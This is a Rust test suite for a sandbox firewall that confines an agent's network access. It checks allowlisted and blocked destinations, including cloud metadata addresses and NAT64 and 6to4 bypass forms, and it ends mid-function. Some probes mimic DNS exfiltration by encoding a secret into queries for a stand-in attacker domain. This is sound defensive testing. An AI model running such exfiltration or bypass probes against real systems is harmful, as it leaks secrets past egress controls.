//! Tier 3: sandbox-init's firewall proven in the network-namespace lab (root only; skips with a
//! reason elsewhere, fails when `CI` is set).
//!
//! sandbox-init runs as PID 1 of a fresh pid namespace inside the lab's agent namespace and
//! starts the probe as the agent; the probe checks the whole allow/deny matrix from the inside
//! in one `probe batch` run. Blocked destinations all have live services in the lab (or are
//! blackholed without an ICMP error), so a fast `refused`/`blocked` can only come from a reject
//! rule: the control test shows the same checks succeed (or time out) without sandbox-init.

use jailoc_tests::lab::{addr, Lab, LabOptions, Run};
use jailoc_tests::{config_dir, require_root, sandbox_init};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    /// Connects / gets a reply.
    Pass,
    /// Refused or blocked by a reject rule (never a timeout).
    Block,
    /// Port 53, to any address: the DNS gate's (the nat redirect). Never refused, never
    /// arrives where it was sent; a DNS query gets the gate's reply, anything else its silence.
    Gate,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    /// A live host in the lab: without the firewall the check passes.
    Live,
    /// Nothing there and no ICMP error: without the firewall the check times out.
    Void,
}

#[derive(Debug)]
struct Case {
    check: String,
    what: &'static str,
    open: Want,
    allowlist: Want,
    target: Target,
}

const TCP_T: &str = "--timeout-ms 1500";
const UDP_T: &str = "--timeout-ms 1000";

fn case(check: String, what: &'static str, open: Want, allowlist: Want, target: Target) -> Case {
    Case {
        check,
        what,
        open,
        allowlist,
        target,
    }
}

fn sock(a: &str, port: u16) -> String {
    if a.contains(':') {
        format!("[{a}]:{port}")
    } else {
        format!("{a}:{port}")
    }
}

/// The policy both egress modes are tested with: names (dual-stack, v4-only, an internal one,
/// one in metadata space, one only in /etc/hosts), literals with and without ports, networks,
/// and the legacy line files merged in.
fn policy_files(egress: &str, home: &str) -> Vec<(&'static str, String)> {
    vec![
        (
            "policy.toml",
            format!(
                r#"egress = "{egress}"
allowed_hosts = ["public.lab", "api.lab:443", "internal.lab:5432", "metadata.lab", "hosts-only.lab", "[fd00::5]:443"]
allowed_networks = ["192.168.5.0/24:5432"]

[agent]
uid = 1000
gid = 1000
home = "{home}"
"#
            ),
        ),
        ("allowed-hosts", "# legacy line file\n192.0.2.10\n".into()),
        ("allowed-networks", "\nfd00:1::/64  \n".into()),
    ]
}

/// The whole matrix: (check, what it proves, expected in open mode, in allowlist mode).
fn matrix() -> Vec<Case> {
    use Target::*;
    use Want::*;
    let via = |name: &str, server: &str, qtype: &str| {
        format!("dns {name} --server {server} --type {qtype} --transport udp {UDP_T}")
    };
    let mut m = vec![
        // First the agent looks the allowlisted names up, through the gate (the resolver's
        // address is the gate's too): only then are their addresses open.
        case(
            via("public.lab", addr::DNS_V4, "A"),
            "look up an allowlisted name (A)",
            Pass,
            Pass,
            Live,
        ),
        case(
            via("public.lab", addr::DNS_V6, "AAAA"),
            "look up an allowlisted name (AAAA)",
            Pass,
            Pass,
            Live,
        ),
        case(
            via("api.lab", addr::DNS_V4, "A"),
            "look up an allowlisted name:port",
            Pass,
            Pass,
            Live,
        ),
        case(
            via("internal.lab", addr::DNS_V4, "A"),
            "look up an allowlisted internal name",
            Pass,
            Pass,
            Live,
        ),
        case(
            via("metadata.lab", addr::DNS_V4, "A"),
            "look up a name that points at metadata",
            Pass,
            Pass,
            Live,
        ),
        case("then".to_owned(), "the lookups are done", Pass, Pass, Live),
        // Allowlisted in both modes.
        case(
            format!("tcp 198.51.100.10:80 {TCP_T}"),
            "allowlisted name (A)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp [2001:db8::10]:443 {TCP_T}"),
            "allowlisted name (AAAA)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("udp 198.51.100.10:9999 {UDP_T}"),
            "allowlisted name, UDP v4",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("udp [2001:db8::10]:9999 {UDP_T}"),
            "allowlisted name, UDP v6",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 203.0.113.10:443 {TCP_T}"),
            "allowlisted name:port",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("udp 203.0.113.10:443 {UDP_T}"),
            "allowlisted name:port, UDP",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 203.0.113.10:80 {TCP_T}"),
            "other port of a name:port",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("udp 203.0.113.10:9999 {UDP_T}"),
            "other UDP port of a name:port",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("tcp 10.1.2.3:5432 {TCP_T}"),
            "allowlisted internal name:port",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 10.1.2.3:80 {TCP_T}"),
            "other port of internal name:port",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [fd00::5]:443 {TCP_T}"),
            "allowlisted [ULA]:port",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp [fd00::5]:80 {TCP_T}"),
            "other port of [ULA]:port",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp 192.168.5.5:5432 {TCP_T}"),
            "allowlisted CIDR:port",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 192.168.5.5:80 {TCP_T}"),
            "other port of CIDR:port",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [fd00:1::1]:80 {TCP_T}"),
            "allowlisted ULA network (line file)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 192.0.2.20:80 {TCP_T}"),
            "name from /etc/hosts",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp 192.0.2.10:8080 {TCP_T}"),
            "allowlisted literal (line file)",
            Pass,
            Pass,
            Live,
        ),
        // ICMP: a host allowlisted without a port is reachable as a whole; a host:port entry
        // opens that port only (no ICMP tunnel to it in allowlist mode).
        case(
            format!("ping 198.51.100.10 {UDP_T}"),
            "ICMP to an allowlisted name",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("ping 2001:db8::10 {UDP_T}"),
            "ICMPv6 to an allowlisted name",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("ping 203.0.113.10 {UDP_T}"),
            "ICMP to a name:port host",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("ping 10.1.2.3 {UDP_T}"),
            "ICMP to an internal name:port host",
            Block,
            Block,
            Live,
        ),
        // Public but not allowlisted.
        case(
            format!("tcp 203.0.113.20:80 {TCP_T}"),
            "public host v4",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("tcp [2001:db8:1::20]:80 {TCP_T}"),
            "public host v6",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("udp 203.0.113.20:9999 {UDP_T}"),
            "public host UDP v4",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("udp [2001:db8:1::20]:9999 {UDP_T}"),
            "public host UDP v6",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("ping 203.0.113.20 {UDP_T}"),
            "public host ICMP",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("ping 2001:db8:1::20 {UDP_T}"),
            "public host ICMPv6",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("tcp [64:ff9b::c633:640a]:80 {TCP_T}"),
            "NAT64 form of a public host",
            Pass,
            Block,
            Live,
        ),
        case(
            format!("tcp [2002:c633:640a::1]:80 {TCP_T}"),
            "6to4 form of a public host",
            Pass,
            Block,
            Live,
        ),
        // The gateway = the host, on every address the agent can see.
        case(
            format!("udp {}:53 {UDP_T}", addr::GW_V4),
            "gateway UDP 53: to the gate, not the gateway",
            Gate,
            Gate,
            Live,
        ),
        case(
            format!("udp {}:9999 {UDP_T}", addr::GW_V4),
            "gateway UDP",
            Block,
            Block,
            Live,
        ),
        case(
            format!("ping {} {UDP_T}", addr::GW_V4),
            "gateway ICMP",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [{}]:80 {TCP_T}", addr::GW_V6),
            "gateway ULA",
            Block,
            Block,
            Live,
        ),
        case(
            format!("udp [{}]:9999 {UDP_T}", addr::GW_V6),
            "gateway ULA UDP",
            Block,
            Block,
            Live,
        ),
        case(
            format!("ping {} {UDP_T}", addr::GW_V6),
            "gateway ULA ICMPv6",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [{}%eth0]:80 {TCP_T}", addr::GW_LL6),
            "link-local gateway",
            Block,
            Block,
            Live,
        ),
        case(
            format!("udp [{}%eth0]:9999 {UDP_T}", addr::GW_LL6),
            "link-local gateway UDP",
            Block,
            Block,
            Live,
        ),
        case(
            format!("ping {}%eth0 {UDP_T}", addr::GW_LL6),
            "link-local gateway ICMPv6",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp {}:80 {TCP_T}", addr::GW_LL4),
            "IPv4 link-local gateway",
            Block,
            Block,
            Live,
        ),
        case(
            format!("ping {} {UDP_T}", addr::GW_LL4),
            "IPv4 link-local gateway ICMP",
            Block,
            Block,
            Live,
        ),
        // Metadata, also when allowlisted by a name that resolves into it.
        case(
            format!("udp 169.254.169.254:9999 {UDP_T}"),
            "metadata UDP",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [::ffff:169.254.169.254]:80 {TCP_T}"),
            "metadata, IPv4-mapped",
            Block,
            Block,
            Live,
        ),
        case(
            format!("tcp [::ffff:10.0.0.1]:80 {TCP_T}"),
            "RFC 1918, IPv4-mapped",
            Block,
            Block,
            Live,
        ),
        // NAT64 / 6to4 forms of blocked ranges: nothing answers there, a reject is the proof.
        case(
            format!("tcp [64:ff9b::a00:1]:80 {TCP_T}"),
            "NAT64 of 10.0.0.1",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [64:ff9b:1::a00:1]:80 {TCP_T}"),
            "local-use NAT64 prefix (RFC 8215)",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [64:ff9b::a9fe:a9fe]:80 {TCP_T}"),
            "NAT64 of metadata",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [64:ff9b::ac11:1]:80 {TCP_T}"),
            "NAT64 of the gateway",
            Block,
            Block,
            Void,
        ),
        case(
            format!("udp [64:ff9b::c0a8:101]:9999 {UDP_T}"),
            "NAT64 of 192.168.1.1, UDP",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [2002:a00:1::1]:80 {TCP_T}"),
            "6to4 of 10.0.0.1",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [2002:a9fe:a9fe::1]:80 {TCP_T}"),
            "6to4 of metadata",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp [2002:6440:1::1]:80 {TCP_T}"),
            "6to4 of CGNAT",
            Block,
            Block,
            Void,
        ),
        case(
            format!("tcp 240.0.0.1:80 {TCP_T}"),
            "240/4",
            Block,
            Block,
            Void,
        ),
        case(
            format!("udp 224.0.0.251:5353 {UDP_T}"),
            "multicast v4",
            Block,
            Block,
            Void,
        ),
        case(
            format!("udp [ff02::1%eth0]:9999 {UDP_T}"),
            "multicast v6",
            Block,
            Block,
            Void,
        ),
        // DNS: every query, to any address, is the gate's; only the gate asks the resolvers.
        case(
            format!("dns public.lab --server {} {UDP_T}", addr::DNS_V4),
            "DNS to the resolver (v4)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!(
                "dns public.lab --server {} --type AAAA {UDP_T}",
                addr::DNS_V6
            ),
            "DNS to the resolver (v6)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("tcp {}:53 {TCP_T}", addr::DNS_V4),
            "TCP 53 of the resolver: to the gate",
            Gate,
            Gate,
            Live,
        ),
        case(
            format!("tcp {}:80 {TCP_T}", addr::DNS_V4),
            "resolver, other TCP port",
            Block,
            Block,
            Live,
        ),
        case(
            format!("udp [{}]:9999 {UDP_T}", addr::DNS_V6),
            "resolver, other UDP port",
            Block,
            Block,
            Live,
        ),
        case(
            format!("dns public.lab --server 10.0.0.1 {UDP_T}"),
            "DNS to another (private) server: the gate answers",
            Gate,
            Gate,
            Live,
        ),
        case(
            format!("dns public.lab --server {} {UDP_T}", addr::GW_V4),
            "DNS to the gateway: the gate answers",
            Gate,
            Gate,
            Live,
        ),
        case(
            format!("dns public.lab --server fd00::1 {UDP_T}"),
            "DNS to another ULA server: the gate answers",
            Gate,
            Gate,
            Live,
        ),
        case(
            format!("dns public.lab --server 203.0.113.20 {UDP_T}"),
            "DNS to a public server: the gate answers",
            Gate,
            Gate,
            Live,
        ),
        // Names the allowlist does not cover: in allowlist egress the gate answers NXDOMAIN
        // itself (checked below, with the resolver's log as the witness); over UDP and TCP, to
        // the resolver and to a hard-coded public address, A and AAAA.
        case(
            format!(
                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
                addr::DNS_V4
            ),
            "not allowlisted name (UDP)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!(
                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
                addr::DNS_V4
            ),
            "not allowlisted name (TCP)",
            Pass,
            Pass,
            Live,
        ),
        case(
            format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"),
            "not allowlisted name, AAAA, hard-coded server",
            Gate,
            Gate,
            Live,
        ),
    ];
    for port in addr::GW_TCP_PORTS {
        m.push(case(
            format!("tcp {}:{port} {TCP_T}", addr::GW_V4),
            "gateway TCP service",
            Block,
            Block,
            Live,
        ));
    }
    for (label, a) in addr::INTERNAL {
        let _ = label;
        m.push(case(
            format!("tcp {} {TCP_T}", sock(a, 80)),
            "internal host TCP",
            Block,
            Block,
            Live,
        ));
        m.push(case(
            format!("udp {} {UDP_T}", sock(a, 9999)),
            "internal host UDP",
            Block,
            Block,
            Live,
        ));
        m.push(case(
            format!("ping {a} {UDP_T}"),
            "internal host ICMP",
            Block,
            Block,
            Live,
        ));
    }
    m
}

fn result(line: &Value) -> &str {
    line.get("result")
        .and_then(Value::as_str)
        .unwrap_or("missing")
}

fn passed(check: &str, line: &Value) -> bool {
    let want = if check.starts_with("tcp") {
        "connected"
    } else {
        "reply"
    };
    result(line) == want
}

fn blocked(line: &Value) -> bool {
    matches!(result(line), "refused" | "blocked")
}

/// The listener key (`ADDR:PORT`, scope dropped) a tcp/udp check would arrive at.
fn sink_key(check: &str) -> Option<String> {
    let mut parts = check.split_whitespace();
    let proto = parts.next()?;
    let target = parts.next()?;
    match proto {
        "tcp" | "udp" => {}
        "dns" => {
            let server = check
                .split_whitespace()
                .skip_while(|w| *w != "--server")
                .nth(1)?;
            return Some(format!("{}/{}", "udp", strip_scope(&sock(server, 53))));
        }
        _ => return None,
    }
    // IPv4-mapped addresses arrive as plain IPv4.
    let target = match target.strip_prefix("[::ffff:") {
        Some(rest) if rest.contains('.') => rest.replacen("]:", ":", 1),
        _ => target.to_string(),
    };
    Some(format!("{proto}/{}", strip_scope(&target)))
}

fn strip_scope(s: &str) -> String {
    match (s.find('%'), s.find(']')) {
        (Some(i), Some(j)) if i < j => format!("{}{}", &s[..i], &s[j..]),
        _ => s.to_string(),
    }
}

fn event_key(e: &Value) -> Option<String> {
    Some(format!(
        "{}/{}",
        e.get("event")?.as_str()?,
        strip_scope(e.get("local")?.as_str()?)
    ))
}

fn table(run: &Run, cases: &[Case], want: impl Fn(&Case) -> Want) -> (String, Vec<String>) {
    let mut out = String::new();
    let mut failures = Vec::new();
    for c in cases.iter().filter(|c| c.check != "then") {
        let line = run.check(&c.check);
        let (res, ms) = match line {
            Some(l) => (
                result(l).to_string(),
                l.get("ms").cloned().unwrap_or(Value::Null),
            ),
            None => ("missing".into(), Value::Null),
        };
        let w = want(c);
        let ok = line.is_some_and(|l| match w {
            Want::Pass => passed(&c.check, l),
            Want::Block => blocked(l),
            Want::Gate if c.check.starts_with("dns") => passed(&c.check, l),
            Want::Gate => !blocked(l),
        });
        out.push_str(&format!(
            "{} {:<55} {:<40} want {:?}, got {res} ({ms} ms)\n",
            if ok { "ok  " } else { "FAIL" },
            c.check,
            c.what,
            w
        ));
        if !ok {
            failures.push(format!(
                "{} ({}): want {w:?}, got {}",
                c.check,
                c.what,
                line.map(|l| l.to_string()).unwrap_or_default()
            ));
        }
    }
    (out, failures)
}

fn run_matrix(egress: &str) {
    run_matrix_with(egress, &[], "nft backend");
}

/// Runs the matrix with programs in `/usr/sbin` swapped for `fakes`; `backend` must appear in
/// sandbox-init's log.
fn run_matrix_with(egress: &str, fakes: &[(String, PathBuf)], backend: &str) {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let home = lab.dir.subdir("home", 0o755);
    let files = policy_files(egress, &home.display().to_string());
    let files: Vec<(&str, &str)> = files.iter().map(|(n, c)| (*n, c.as_str())).collect();
    let config = config_dir(&lab.dir, "config", &files);
    let cases = matrix();
    let marker = lab.markers.join("agent-ran");
    let mut args: Vec<String> = vec!["batch".into()];
    args.extend(cases.iter().map(|c| c.check.clone()));
    args.push(format!("touch {}", marker.display()));
    args.push("status".into());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = lab.sandbox_replacing(&refs(fakes), &config, &[], &args);
    eprintln!("sandbox-init stderr:\n{}", run.stderr);
    assert!(
        run.stderr.contains(backend),
        "expected the {backend}: {}",
        run.stderr
    );
    assert_eq!(
        run.code,
        Some(0),
        "sandbox-init with the probe as agent failed: {:?}\nstdout:\n{}",
        run.status,
        run.stdout
    );
    assert!(marker.exists(), "the agent did not run (no marker)");
    // The matrix was checked by the unprivileged agent, not by root.
    let status = run.check("status").expect("no status line from the probe");
    assert_eq!(status["uid"], 1000, "the agent is not UID 1000: {status}");
    assert_eq!(
        status["CapEff"], "0000000000000000",
        "the agent has capabilities: {status}"
    );
    assert_eq!(
        status["NoNewPrivs"], "1",
        "no_new_privs is not set: {status}"
    );

    let want = |c: &Case| {
        if egress == "open" {
            c.open
        } else {
            c.allowlist
        }
    };
    let (report, mut failures) = table(&run, &cases, want);
    eprintln!(
        "matrix, egress = {egress} ({} checks):\n{report}",
        cases.len()
    );

    // DNS answers come from the lab's dnsmasq.
    let v4 = run.check(&format!("dns public.lab --server {} {UDP_T}", addr::DNS_V4));
    if !v4.is_some_and(|l| l["answers"].to_string().contains("198.51.100.10")) {
        failures.push(format!("DNS A answer for public.lab missing: {v4:?}"));
    }
    let v6 = run.check(&format!(
        "dns public.lab --server {} --type AAAA {UDP_T}",
        addr::DNS_V6
    ));
    if !v6.is_some_and(|l| l["answers"].to_string().contains("2001:db8::10")) {
        failures.push(format!("DNS AAAA answer for public.lab missing: {v6:?}"));
    }

    // The far side: every allowed TCP/UDP flow arrived (the logs work), no blocked one did.
    let allowed: BTreeSet<String> = cases
        .iter()
        .filter(|c| want(c) == Want::Pass && !c.check.starts_with("dns"))
        .filter_map(|c| sink_key(&c.check))
        .filter(|k| !k.contains(&format!("{}:53", addr::DNS_V4)))
        .collect();
    // What was refused or went to the gate must not arrive where it was sent.
    let blocked_keys: BTreeSet<String> = cases
        .iter()
        .filter(|c| matches!(want(c), Want::Block | Want::Gate))
        .filter_map(|c| sink_key(&c.check))
        .collect();
    for key in &allowed {
        let local = key.split_once('/').map(|x| x.1).unwrap_or_default();
        if !lab.wait_for_sink(local) {
            failures.push(format!("allowed flow {key} never reached its listener"));
        }
    }
    let arrived: Vec<String> = lab
        .sink_events()
        .iter()
        .filter_map(event_key)
        .filter(|k| blocked_keys.contains(k))
        .collect();
    if !arrived.is_empty() {
        failures.push(format!("blocked flows reached the far side: {arrived:?}"));
    }
    // dnsmasq saw the gate's queries for allowlisted names; in allowlist egress it never saw
    // a name the allowlist does not cover (the gate answered NXDOMAIN itself), over any transport
    // or address, so a secret spelled into a name cannot leave through DNS.
    let dns_log = lab.dns_log();
    if !dns_log.contains("public.lab") {
        failures.push("the lab resolver never saw a query for public.lab".into());
    }
    for (check, label) in [
        (
            format!(
                "dns c2VjcmV0.attacker.lab --server {} {UDP_T}",
                addr::DNS_V4
            ),
            "c2VjcmV0",
        ),
        (
            format!(
                "dns dGNw.attacker.lab --server {} --transport tcp {TCP_T}",
                addr::DNS_V4
            ),
            "dGNw",
        ),
        (
            format!("dns aGFyZA.attacker.lab --server 203.0.113.20 --type AAAA {UDP_T}"),
            "aGFyZA",
        ),
    ] {
        let line = run.check(&check);
        let reached = dns_log
            .to_ascii_lowercase()
            .contains(&label.to_ascii_lowercase());
        if egress == "allowlist" {
            if line.is_none_or(|l| l["rcode"] != 3) {
                failures.push(format!(
                    "{check}: want NXDOMAIN from the gate, got {line:?}"
                ));
            }
            if reached {
                failures.push(format!(
                    "{label}.attacker.lab reached the lab resolver: {dns_log}"
                ));
            }
            if !run.stderr.contains(&format!(
                "dns: refused {}.attacker.lab (not allowlisted)",
                label.to_ascii_lowercase()
            )) {
                failures.push(format!("no refusal logged for {label}.attacker.lab"));
            }
        } else if !reached {
            failures.push(format!(
                "open egress: {label}.attacker.lab was not forwarded"
            ));
        }
    }
    // A name that resolves into metadata space opens nothing, and says so.
    if !run.stderr.contains("metadata.lab") {
        failures.push(format!(
            "no warning names metadata.lab (allowlisted name resolving into link-local): {}",
            run.stderr
        ));
    }
    assert!(
        failures.is_empty(),
        "egress = {egress}: {} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn open_egress_matrix_v4_v6() {
    run_matrix("open");
}

#[test]
fn allowlist_egress_matrix_v4_v6() {
    run_matrix("allowlist");
}

/// Kernels without nf_tables: the nft tools fail, sandbox-init falls back to iptables-legacy,
/// and the same matrix holds.
#[test]
fn open_egress_matrix_on_the_legacy_backend() {
    let dir = jailoc_tests::TempDir::new("jailoc-nonft-");
    let mut fakes = jailoc_tests::lab::failing_tools(
        &dir,
        &["iptables-nft", "ip6tables-nft"],
        &["-save", "-restore"],
    );
    // Plain `iptables-save` is the nft variant on this distribution: fail it too.
    fakes.extend(jailoc_tests::lab::failing_tools(
        &dir,
        &["iptables", "ip6tables"],
        &["-save", "-restore"],
    ));
    run_matrix_with("open", &fakes, "legacy backend");
}

/// `(name, file)` pairs as [`Lab::sandbox_replacing`] takes them.
fn refs(fakes: &[(String, PathBuf)]) -> Vec<(&str, &Path)> {
    fakes
        .iter()
        .map(|(name, file)| (name.as_str(), file.as_path()))
        .collect()
}

/// An IPv4-only agent (Docker's default): boot succeeds even when ip6tables cannot work, and the
/// IPv4 rules are in force.
#[test]
fn ipv4_only_agent_boots_without_ipv6_rules_and_stays_walled_off() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::with(LabOptions {
        agent_ipv4_only: true,
        ..LabOptions::default()
    });
    let config = simple_config(&lab, "config", "open", &["public.lab".into()]);
    let dir = jailoc_tests::TempDir::new("jailoc-no6-");
    let fakes = jailoc_tests::lab::failing_tools(
        &dir,
        &["ip6tables", "ip6tables-nft", "ip6tables-legacy"],
        &["-restore"],
    );
    let run = lab.sandbox_replacing(
        &refs(&fakes),
        &config,
        &[],
        &[
            "batch",
            "tcp 198.51.100.10:80 --timeout-ms 1500",
            "tcp 10.0.0.1:80 --timeout-ms 1500",
            "tcp 172.17.0.1:22 --timeout-ms 1500",
            "status",
        ],
    );
    eprintln!("stderr:\n{}", run.stderr);
    assert_eq!(
        run.code,
        Some(0),
        "an IPv4-only agent must boot: {}",
        run.stderr
    );
    assert!(
        run.stderr.contains("Failed to initialize nft"),
        "ip6tables-restore was not tried: {}",
        run.stderr
    );
    let res = |c: &str| run.check(c).map(|l| result(l).to_string());
    assert_eq!(
        res("tcp 198.51.100.10:80 --timeout-ms 1500").as_deref(),
        Some("connected")
    );
    assert_eq!(
        res("tcp 10.0.0.1:80 --timeout-ms 1500").as_deref(),
        Some("refused")
    );
    assert_eq!(
        res("tcp 172.17.0.1:22 --timeout-ms 1500").as_deref(),
        Some("refused")
    );
    assert_eq!(
        run.check("status").map(|s| s["uid"].clone()),
        Some(Value::from(1000))
    );
}

/// Without sandbox-init, every Live target answers and every Void target stays silent: so in the
/// matrix a fast reject can only come from sandbox-init's rules (the tests above can fail).
#[test]
fn control_without_firewall_everything_is_reachable() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let cases = matrix();
    let mut args: Vec<&str> = vec!["batch"];
    args.extend(cases.iter().map(|c| c.check.as_str()));
    let run = lab.probe_unguarded(&args);
    let mut failures = Vec::new();
    for c in cases.iter().filter(|c| c.check != "then") {
        let line = run.check(&c.check);
        let ok = line.is_some_and(|l| match c.target {
            Target::Live => passed(&c.check, l),
            Target::Void => result(l) == "timeout",
        });
        if !ok {
            failures.push(format!(
                "{} ({}, {:?}): {:?}",
                c.check, c.what, c.target, line
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "the lab itself is miswired:\n{}",
        failures.join("\n")
    );
    // The sinks log what reaches them.
    assert!(
        lab.wait_for_sink("10.0.0.1:80"),
        "the world listeners log nothing"
    );
    assert!(
        lab.wait_for_sink(&format!("{}:22", addr::GW_V4)),
        "the gateway listeners log nothing"
    );
}

/// A config dir with an open policy and `names` allowlisted.
fn simple_config(lab: &Lab, name: &str, egress: &str, names: &[String]) -> std::path::PathBuf {
    let home = lab.dir.subdir("home", 0o755);
    let hosts: Vec<String> = names.iter().map(|n| format!("{n:?}")).collect();
    let policy = format!(
        "egress = \"{egress}\"\nallowed_hosts = [{}]\n\n[agent]\nuid = 1000\ngid = 1000\nhome = \"{}\"\n",
        hosts.join(", "),
        home.display()
    );
    config_dir(&lab.dir, name, &[("policy.toml", &policy)])
}

/// Runs sandbox-init with `probe touch MARKER` as the agent; returns the run and whether the
/// agent ran.
fn boot_touch(
    lab: &Lab,
    config: &std::path::Path,
    fakes: &[(String, PathBuf)],
    marker: &str,
) -> (Run, bool) {
    let marker = lab.markers.join(marker);
    let m = marker.display().to_string();
    let run = lab.sandbox_replacing(&refs(fakes), config, &[], &["touch", &m]);
    eprintln!(
        "exit {:?} in {:?}; stderr:\n{}",
        run.code, run.elapsed, run.stderr
    );
    let ran = marker.exists();
    (run, ran)
}

/// Fails closed on a bad policy: exit 78, a message naming file, line and value, no agent.
#[test]
fn bad_policy_exits_78_and_the_agent_never_runs() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let bad_toml = config_dir(
        &lab.dir,
        "bad-toml",
        &[("policy.toml", "egress = \"sideways\"\n")],
    );
    let (run, ran) = boot_touch(&lab, &bad_toml, &[], "bad-toml");
    assert_eq!(run.code, Some(78), "bad egress value: {}", run.stderr);
    assert!(!ran, "the agent ran despite an invalid policy");
    assert!(
        run.stderr.contains("policy.toml") && run.stderr.contains("sideways"),
        "{}",
        run.stderr
    );

    let bad_line = config_dir(
        &lab.dir,
        "bad-line",
        &[("allowed-hosts", "pypi.org\nnot a*host\n")],
    );
    let (run, ran) = boot_touch(&lab, &bad_line, &[], "bad-line");
    assert_eq!(
        run.code,
        Some(78),
        "bad allowed-hosts entry: {}",
        run.stderr
    );
    assert!(!ran, "the agent ran despite an invalid allowed-hosts line");
    assert!(
        run.stderr.contains("allowed-hosts")
            && run.stderr.contains('2')
            && run.stderr.contains("not a*host"),
        "the error must name file, line and entry: {}",
        run.stderr
    );
}

/// No iptables binaries anywhere (the sbin/bin dirs hidden in the agent's mount namespace):
/// exit 71 and no agent.
#[test]
fn missing_backend_exits_71_and_the_agent_never_runs() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = simple_config(&lab, "config", "open", &[]);
    let marker = lab.markers.join("no-backend");
    let m = marker.display().to_string();
    let hide = ["/usr/sbin", "/usr/local/sbin"];
    let run = lab.sandbox_hiding(&sandbox_init(), &hide, &config, &[], &["touch", &m]);
    eprintln!("exit {:?}; stderr:\n{}", run.code, run.stderr);
    assert_eq!(run.code, Some(71), "no backend: {}", run.stderr);
    assert!(!marker.exists(), "the agent ran without a firewall backend");
}

/// Both backends present but broken (a kernel with neither nf_tables nor legacy iptables):
/// exit 71 and no agent.
#[test]
fn broken_backends_exit_71_and_the_agent_never_runs() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = simple_config(&lab, "config", "open", &[]);
    let mut fakes = Vec::new();
    for fam in ["iptables", "ip6tables"] {
        for variant in ["", "-nft", "-legacy"] {
            fakes.extend(jailoc_tests::lab::failing_tools(
                &lab.dir,
                &[&format!("{fam}{variant}")],
                &["", "-save", "-restore"],
            ));
        }
    }
    let (run, ran) = boot_touch(&lab, &config, &fakes, "broken-backend");
    assert_eq!(run.code, Some(71), "broken backends: {}", run.stderr);
    assert!(!ran, "the agent ran without a working firewall backend");
}

/// Fake `*-restore` commands that fail, for the given families (see [`fake_tools`]).
fn failing_restore_dir(lab: &Lab, name: &str, families: &[&str]) -> Vec<(String, PathBuf)> {
    let fake = lab.dir.write(
        name,
        "#!/bin/sh\ncat >/dev/null\necho 'injected failure' >&2\nexit 1\n",
    );
    let mut fakes = Vec::new();
    for fam in families {
        for variant in ["", "-nft", "-legacy"] {
            fakes.push((format!("{fam}{variant}-restore"), fake.clone()));
        }
    }
    fakes
}

/// `iptables-restore` fails: exit 71, no agent.
#[test]
fn failing_restore_exits_71_and_the_agent_never_runs() {
    if !require_root("lab tier (network namespaces)") {
        return;
    }
    let lab = Lab::up();
    let config = simple_config(&lab, "config", "open", &[]);
    let fakes = failing_restore_dir(&lab, "fake-both", &["iptables", "ip6tables"]);
    let (run, ran) = boot_touch(&lab, &config, &fakes, "restore-fails");
    assert_eq!(run.code, Some(71), "failing restore: {}", run.stderr);
    assert!(!ran, "the agent ran although the rules were not applied");
    assert!(
        run.stderr.contains("injected failure"),
        "the injected restore did not run: {}",
        run.stderr
    );
}

/// Only the IPv6 restore fails while the agent has a global IPv6 address: exit 71, no agent
/// (IPv4 rules alone would leave IPv6 wide open).
#[test]
fn failing_ipv6_restore_with_ipv6_present_exits_71() {
